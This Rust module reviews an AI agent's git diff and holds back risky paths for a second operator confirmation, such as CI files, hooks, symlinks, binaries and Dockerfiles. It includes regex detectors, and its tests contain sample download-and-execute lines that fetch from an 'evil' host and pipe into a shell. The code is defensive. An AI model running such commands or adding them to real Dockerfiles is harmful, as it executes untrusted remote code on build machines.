//! The change policy: which parts of an agent's diff are held back until
//! the operator confirms them on a second screen.
//!
//! An agent that edits a CI workflow, a git hook, a `.gitattributes`
//! filter or a Dockerfile that pipes a download into a shell has written
//! code that runs elsewhere (on CI runners, on every teammate's machine),
//! whatever the plan said. So do symlinks (they point anywhere), binaries
//! and submodules (nobody reviews them in a diff), and the paths the
//! operator lists in `[forge] protected`. This room only reads two trees
//! and says what it found and why; it never pushes and never asks.

use git2::{Delta, DiffOptions, FileMode, Oid, Repository};
use serde::{Deserialize, Serialize};
use std::sync::OnceLock;

/// One path of the diff that needs the operator's explicit yes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Held {
    /// The path in the repository.
    pub path: String,
    /// Why it is held back, in the operator's words.
    pub why: String,
}

/// The operator's `[forge] protected` globs, compiled once.
#[derive(Debug, Clone, Default)]
pub struct Protected {
    globs: Vec<(String, regex::Regex)>,
}

impl Protected {
    /// Compiles `globs` (`*` within a path segment, `**` across segments,
    /// `?` one character; a glob without `/` matches the file name at any
    /// depth). The error names the glob that is not one.
    pub fn new(globs: &[String]) -> Result<Protected, String> {
        let mut out = Vec::new();
        for g in globs {
            let re = glob_regex(g).ok_or_else(|| format!("`{g}` is not a glob"))?;
            out.push((g.clone(), re));
        }
        Ok(Protected { globs: out })
    }

    /// The first glob matching `path`.
    pub fn matching(&self, path: &str) -> Option<&str> {
        self.globs
            .iter()
            .find(|(_, re)| re.is_match(path))
            .map(|(g, _)| g.as_str())
    }
}

/// A glob as an anchored regex; `None` when it is empty.
fn glob_regex(glob: &str) -> Option<regex::Regex> {
    let glob = glob.trim().trim_start_matches('/');
    if glob.is_empty() {
        return None;
    }
    let mut re = String::from("^");
    if !glob.contains('/') {
        re.push_str("(?:.*/)?");
    }
    let mut chars = glob.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '*' if chars.peek() == Some(&'*') => {
                chars.next();
                if chars.peek() == Some(&'/') {
                    chars.next();
                    re.push_str("(?:.*/)?");
                } else {
                    re.push_str(".*");
                }
            }
            '*' => re.push_str("[^/]*"),
            '?' => re.push_str("[^/]"),
            c => re.push_str(&regex::escape(&c.to_string())),
        }
    }
    // `dir/` or `dir` also covers everything below it.
    re.push_str("(?:/.*)?$");
    regex::Regex::new(&re).ok()
}

/// Why `path` is held back by name alone (CI, hooks, git config), if it is.
pub fn path_reason(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let under = |dir: &str| lower.starts_with(dir) || lower.contains(&format!("/{dir}"));
    const CI_DIRS: [&str; 9] = [
        ".github/workflows/",
        ".github/actions/",
        ".gitlab/",
        ".circleci/",
        ".buildkite/",
        ".azure-pipelines/",
        ".woodpecker/",
        ".drone/",
        ".tekton/",
    ];
    const CI_FILES: [&str; 14] = [
        ".gitlab-ci.yml",
        ".gitlab-ci.yaml",
        "azure-pipelines.yml",
        "azure-pipelines.yaml",
        ".travis.yml",
        "bitbucket-pipelines.yml",
        ".drone.yml",
        ".woodpecker.yml",
        "appveyor.yml",
        ".appveyor.yml",
        "cloudbuild.yaml",
        "cloudbuild.yml",
        "buildspec.yml",
        "codefresh.yml",
    ];
    if CI_DIRS.iter().any(|d| under(d))
        || CI_FILES.contains(&name)
        || name.starts_with("jenkinsfile")
    {
        return Some("CI/automation file: it runs on the CI runners");
    }
    const HOOK_DIRS: [&str; 3] = [".husky/", ".githooks/", ".git-hooks/"];
    const HOOK_FILES: [&str; 4] = [
        ".pre-commit-config.yaml",
        ".pre-commit-config.yml",
        "lefthook.yml",
        ".lefthook.yml",
    ];
    if HOOK_DIRS.iter().any(|d| under(d)) || HOOK_FILES.contains(&name) {
        return Some("git hook: it runs on every machine that installs the hooks");
    }
    if name.starts_with(".git") || lower.split('/').any(|seg| seg == ".git") {
        return Some("git configuration (.gitmodules, .gitattributes filters): it changes what git runs and fetches");
    }
    None
}

/// Whether `name` is a Dockerfile (or Containerfile) by its file name.
fn is_dockerfile(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    // Dockerfile, Dockerfile.prod, Dockerfile-prod, Dockerfile_prod, api.dockerfile…
    name.starts_with("dockerfile")
        || name.starts_with("containerfile")
        || name.contains(".dockerfile")
        || name.contains(".containerfile")
}

/// Lines of a Dockerfile that download and execute, continuation lines joined.
pub fn download_and_execute(dockerfile: &str) -> Vec<String> {
    static RE: OnceLock<Vec<regex::Regex>> = OnceLock::new();
    let res = RE.get_or_init(|| {
        [
            // curl … | sh, wget -O- … | bash, … | python
            r"(?i)\b(curl|wget|fetch|aria2c)\b.*\|\s*(sudo\s+)?(\S*/)?(ba|z|da|k|fi)?sh\b",
            r"(?i)\b(curl|wget|fetch)\b.*\|\s*(sudo\s+)?(\S*/)?(python[0-9.]*|perl|ruby|node|php)\b",
            // wget … && sh x.sh, curl -o x … ; bash x
            r"(?i)\b(curl|wget|fetch)\b.*(&&|;|\|\|)\s*(sudo\s+)?(\S*/)?((ba|z|da|k)?sh|source|\.)\s",
            r"(?i)\b(curl|wget|fetch)\b.*(&&|;)\s*(sudo\s+)?(\./|chmod\s+\+?[0-7]*x)",
            // sh <(curl …), sh -c "$(curl …)", eval "$(wget …)"
            r"(?i)<\(\s*(curl|wget|fetch)\b",
            r"(?i)\$\(\s*(curl|wget|fetch)\b",
            r"(?i)`\s*(curl|wget|fetch)\b",
            // ADD https://… (a download straight into the image)
            r"(?i)^\s*ADD\s+(--\S+\s+)*(https?|ftp)://",
            // … | env bash, … | busybox sh, … | xargs sh
            r"(?i)\b(curl|wget|fetch|aria2c)\b.*\|\s*(sudo\s+)?(\S*/)?(env|busybox|xargs)\b",
            // curl -o /usr/local/bin/t … && chmod 755 t (any chmod after a download)
            r"(?i)\b(curl|wget|fetch|aria2c)\b.*(&&|;|\|\|)\s*(sudo\s+)?chmod\b",
            // RUN <<EOF: a script in a heredoc can hide anything
            r"(?i)^\s*RUN\s+(--\S+\s+)*<<",
        ]
        .iter()
        .map(|r| regex::Regex::new(r).expect("a valid pattern"))
        .collect()
    });
    let mut joined = Vec::new();
    let mut line = String::new();
    for raw in dockerfile.lines() {
        let t = raw.trim_end();
        if let Some(head) = t.strip_suffix('\\') {
            line.push_str(head);
            line.push(' ');
            continue;
        }
        line.push_str(t);
        joined.push(std::mem::take(&mut line));
    }
    if !line.is_empty() {
        joined.push(line);
    }
    // A file that downloads anywhere: a line that runs a shell, makes a file
    // executable or runs an absolute path may run what another line fetched.
    static FETCH: OnceLock<regex::Regex> = OnceLock::new();
    static RUNS: OnceLock<regex::Regex> = OnceLock::new();
    let fetch = FETCH.get_or_init(|| {
        regex::Regex::new(r"(?i)(^\s*RUN\b.*\b(curl|wget|fetch|aria2c)\s+\S|^\s*ADD\s+(--\S+\s+)*(https?|ftp)://)")
            .expect("a valid pattern")
    });
    let runs = RUNS.get_or_init(|| {
        regex::Regex::new(
            r"(?i)^\s*(RUN|CMD|ENTRYPOINT)\b.*(\b(ba|z|da|k)?sh\s|\bchmod\b|\bsource\s|\[\s*\x22/)|^\s*(RUN|CMD|ENTRYPOINT)\s+(--\S+\s+)*/\S|(&&|;|\|)\s*/\S",
        )
        .expect("a valid pattern")
    });
    let code: Vec<String> = joined
        .into_iter()
        .filter(|l| !l.trim_start().starts_with('#'))
        .collect();
    let downloads = code.iter().any(|l| fetch.is_match(l));
    code.into_iter()
        .filter(|l| res.iter().any(|re| re.is_match(l)) || (downloads && runs.is_match(l)))
        .map(|l| l.trim().to_string())
        .collect()
}

/// Reviews the change from `base` to `head` (tree ids in `repo`): every
/// path held back, with why. An empty list: nothing needs a second yes.
pub fn review(
    repo: &Repository,
    base: Oid,
    head: Oid,
    protected: &Protected,
) -> Result<Vec<Held>, git2::Error> {
    let old = repo.find_tree(base)?;
    let new = repo.find_tree(head)?;
    let mut opts = DiffOptions::new();
    opts.include_typechange(true).ignore_submodules(false);
    let diff = repo.diff_tree_to_tree(Some(&old), Some(&new), Some(&mut opts))?;
    let mut held: Vec<Held> = Vec::new();
    let mut hold = |path: &str, why: String| {
        if !held.iter().any(|h| h.path == path && h.why == why) {
            held.push(Held {
                path: path.to_string(),
                why,
            });
        }
    };
    for delta in diff.deltas() {
        let new_file = delta.new_file();
        let old_file = delta.old_file();
        let path = new_file
            .path()
            .or(old_file.path())
            .map(|p| p.to_string_lossy().into_owned())
            .unwrap_or_default();
        let mut paths = vec![path.clone()];
        if let Some(old_path) = old_file.path().map(|p| p.to_string_lossy().into_owned()) {
            if old_path != path {
                paths.push(old_path);
            }
        }
        for p in &paths {
            if let Some(why) = path_reason(p) {
                hold(p, why.to_string());
            }
            if let Some(glob) = protected.matching(p) {
                hold(
                    p,
                    format!("protected path (matches `{glob}` in [forge] protected)"),
                );
            }
        }
        if delta.status() == Delta::Deleted {
            continue;
        }
        let was_executable =
            delta.status() != Delta::Added && old_file.mode() == FileMode::BlobExecutable;
        if new_file.mode() == FileMode::BlobExecutable && !was_executable {
            hold(
                &path,
                "made executable: a CI step, a hook or a teammate may run it".into(),
            );
        }
        match new_file.mode() {
            FileMode::Link => hold(&path, "symlink: it can point anywhere".into()),
            FileMode::Commit => hold(
                &path,
                "submodule: it pulls in another repository's code".into(),
            ),
            FileMode::Blob | FileMode::BlobExecutable | FileMode::BlobGroupWritable => {
                let blob = repo.find_blob(new_file.id())?;
                if blob.is_binary() {
                    hold(
                        &path,
                        "binary file: its content cannot be reviewed in the diff".into(),
                    );
                } else if is_dockerfile(&path) {
                    let before: Vec<String> = if delta.status() == Delta::Added {
                        Vec::new()
                    } else {
                        repo.find_blob(old_file.id())
                            .map(|b| download_and_execute(&String::from_utf8_lossy(b.content())))
                            .unwrap_or_default()
                    };
                    let after = download_and_execute(&String::from_utf8_lossy(blob.content()));
                    for line in after.iter().filter(|l| !before.contains(l)) {
                        let shown: String = line.chars().take(80).collect();
                        hold(
                            &path,
                            format!("Dockerfile downloads and executes: `{shown}`"),
                        );
                    }
                }
            }
            _ => hold(&path, "not a regular file".into()),
        }
    }
    Ok(held)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ci_hooks_and_git_config_are_held_by_name() {
        for p in [
            ".github/workflows/x.yml",
            "sub/.github/workflows/ci.yaml",
            ".gitlab-ci.yml",
            "Jenkinsfile",
            "ci/Jenkinsfile.release",
            ".circleci/config.yml",
            "azure-pipelines.yml",
            ".buildkite/pipeline.yml",
            ".travis.yml",
            "bitbucket-pipelines.yml",
            ".husky/pre-commit",
            ".pre-commit-config.yaml",
            ".gitmodules",
            ".gitattributes",
            "lib/.gitattributes",
            ".GITHUB/WORKFLOWS/x.yml",
        ] {
            assert!(path_reason(p).is_some(), "{p} not held");
        }
        for p in [
            "deploy/api.yaml",
            "src/github.rs",
            "docs/workflows.md",
            "jenkins.md",
            "README.md",
        ] {
            assert!(path_reason(p).is_none(), "{p} held");
        }
    }

    #[test]
    fn dockerfiles_that_download_and_execute() {
        for bad in [
            "RUN curl -fsSL https://x.sh | sh",
            "RUN curl -fsSL https://x.sh | sudo bash -s --",
            "RUN wget -qO- https://x | /bin/bash",
            "RUN wget https://x/i.sh && sh i.sh",
            "RUN curl -o i.sh https://x; bash i.sh",
            "RUN bash <(curl -s https://x)",
            "RUN sh -c \"$(curl -fsSL https://x)\"",
            "RUN curl https://x | python3 -",
            "ADD https://example.com/tool.tar.gz /opt/",
            "ADD --chown=1:1 http://example.com/x /x",
            "RUN curl -fsSL https://x.sh \\\n  | sh",
            "RUN curl -fsSL https://evil/i | env bash",
            "RUN curl -fsSLo /usr/local/bin/t https://evil/t && chmod 755 /usr/local/bin/t && t",
            "RUN <<EOF\ncurl https://x | sh\nEOF",
        ] {
            assert!(!download_and_execute(bad).is_empty(), "{bad} not caught");
        }
        // Fetched by one instruction, run by the next.
        let two = "FROM debian\nRUN curl -o /tmp/i.sh https://evil\nRUN sh /tmp/i.sh\n";
        assert!(download_and_execute(two).contains(&"RUN sh /tmp/i.sh".to_string()));
        for name in [
            "Dockerfile-prod",
            "Dockerfile_prod",
            "api.dockerfile",
            "Containerfile.dev",
        ] {
            assert!(is_dockerfile(name), "{name}");
        }
        for ok in [
            "RUN apt-get install -y curl",
            "RUN curl -fsSL -o /tmp/x.tgz https://x && tar xzf /tmp/x.tgz",
            "ADD ./local /opt/",
            "# RUN curl https://x | sh",
            "COPY --from=build /app /app",
        ] {
            assert!(download_and_execute(ok).is_empty(), "{ok} caught");
        }
    }

    #[test]
    fn protected_globs() {
        let p = Protected::new(&[
            "deploy/prod/**".into(),
            "*.tf".into(),
            "secrets".into(),
            "config/?.yaml".into(),
        ])
        .unwrap();
        assert_eq!(p.matching("deploy/prod/api.yaml"), Some("deploy/prod/**"));
        assert_eq!(p.matching("deploy/prod/a/b.yaml"), Some("deploy/prod/**"));
        assert_eq!(p.matching("infra/main.tf"), Some("*.tf"));
        assert_eq!(p.matching("secrets/x"), Some("secrets"));
        assert_eq!(p.matching("a/secrets"), Some("secrets"));
        assert_eq!(p.matching("config/a.yaml"), Some("config/?.yaml"));
        assert_eq!(p.matching("config/ab.yaml"), None);
        assert_eq!(p.matching("deploy/staging/api.yaml"), None);
        assert_eq!(p.matching("main.tfvars"), None);
        assert!(Protected::new(&["  ".into()]).is_err());
    }

    fn repo_with(files: &[(&str, &[u8], i32)]) -> (tempfile::TempDir, Repository, Oid) {
        let dir = tempfile::tempdir().unwrap();
        let repo = Repository::init_bare(dir.path()).unwrap();
        let tree = tree_of(&repo, files);
        (dir, repo, tree)
    }

    fn tree_of(repo: &Repository, files: &[(&str, &[u8], i32)]) -> Oid {
        let mut index = git2::Index::new().unwrap();
        for (path, content, mode) in files {
            let oid = repo.blob(content).unwrap();
            let entry = git2::IndexEntry {
                ctime: git2::IndexTime::new(0, 0),
                mtime: git2::IndexTime::new(0, 0),
                dev: 0,
                ino: 0,
                mode: *mode as u32,
                uid: 0,
                gid: 0,
                file_size: content.len() as u32,
                id: oid,
                flags: 0,
                flags_extended: 0,
                path: path.as_bytes().to_vec(),
            };
            index.add(&entry).unwrap();
        }
        index.write_tree_to(repo).unwrap()
    }

    #[test]
    fn review_holds_what_runs_elsewhere_and_passes_the_rest() {
        let (_d, repo, base) = repo_with(&[
            ("deploy/api.yaml", b"memory: 32G\n", 0o100644),
            (
                "Dockerfile",
                b"FROM debian\nRUN curl https://old | sh\n",
                0o100644,
            ),
        ]);
        let head = tree_of(
            &repo,
            &[
                ("deploy/api.yaml", b"memory: 48G\n", 0o100644),
                // The download-and-run that was already there is not the agent's.
                (
                    "Dockerfile",
                    b"FROM debian\nRUN curl https://old | sh\nRUN wget https://new && sh x\n",
                    0o100644,
                ),
                (".github/workflows/x.yml", b"on: push\n", 0o100644),
                ("link", b"/etc/passwd", 0o120000),
                ("tool.bin", b"\x7fELF\x00\x00\x01", 0o100644),
                ("infra/main.tf", b"x\n", 0o100644),
            ],
        );
        let p = Protected::new(&["*.tf".into()]).unwrap();
        let held = review(&repo, base, head, &p).unwrap();
        let paths: Vec<&str> = held.iter().map(|h| h.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                ".github/workflows/x.yml",
                "Dockerfile",
                "infra/main.tf",
                "link",
                "tool.bin"
            ],
            "{held:#?}"
        );
        assert!(held[1].why.contains("wget https://new"), "{held:#?}");
        assert!(held[3].why.contains("symlink"));
        assert!(held[4].why.contains("binary"));
        // A script made executable (a mode-only change) is held; one that
        // already was is not.
        let (_d3, repo3, base3) = repo_with(&[
            ("scripts/deploy.sh", b"echo deploy\n", 0o100644),
            ("scripts/run.sh", b"echo run\n", 0o100755),
        ]);
        let head3 = tree_of(
            &repo3,
            &[
                ("scripts/deploy.sh", b"echo deploy\n", 0o100755),
                ("scripts/run.sh", b"echo run again\n", 0o100755),
            ],
        );
        let held3 = review(&repo3, base3, head3, &Protected::default()).unwrap();
        assert_eq!(held3.len(), 1, "{held3:#?}");
        assert_eq!(held3[0].path, "scripts/deploy.sh");
        assert!(held3[0].why.contains("executable"));
        // An ordinary manifest change is not held.
        let (_d2, repo2, base2) = repo_with(&[("deploy/api.yaml", b"memory: 32G\n", 0o100644)]);
        let plain2 = tree_of(&repo2, &[("deploy/api.yaml", b"memory: 48G\n", 0o100644)]);
        assert!(review(&repo2, base2, plain2, &Protected::default())
            .unwrap()
            .is_empty());
    }
}
